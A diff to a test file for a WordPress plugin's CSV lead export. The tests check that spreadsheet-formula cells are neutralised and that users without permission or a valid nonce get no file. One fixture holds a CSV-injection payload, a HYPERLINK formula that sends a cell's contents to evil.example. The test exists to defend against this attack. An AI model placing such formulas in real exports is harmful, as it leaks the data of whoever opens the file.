@@ -370,7 +370,7 @@ describe("leads: POST /wp-json/studio-companion/v1/leads", () => {
     expect(cells.studio_mailed).toBe("sent");
   });
 
-  it("exports leads as CSV for an administrator with a valid nonce only, with formula cells made text", async () => {
+  it("exports leads as CSV for an administrator, with cells a spreadsheet would run as formulas made text", async () => {
     const hostile = lead({
       name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
       phone: "+1 555 0100",
@@ -390,7 +390,9 @@ describe("leads: POST /wp-json/studio-companion/v1/leads", () => {
     expect(row[5]).toBe("'-2+3 is what the cabinet maker charged, more or less.");
     for (const r of rows) for (const cell of r) expect(cell, "no cell a spreadsheet would run").not.toMatch(/^[=+\-@\t\r]/);
     expect(rows.some((r) => r[1] === "Zoë Müller" && r[2] === "zoe@example.com")).toBe(true);
+  });
 
+  it("gives no CSV without the capability (an editor, even with a valid nonce), with a bad nonce or with none", async () => {
     // Without the capability (an editor, even with a valid nonce), with a bad nonce, or with none: no file.
     const editor = await phpText("export", "editor", "good");
     expect(editor).toContain("Sorry, you are not allowed to export leads.");
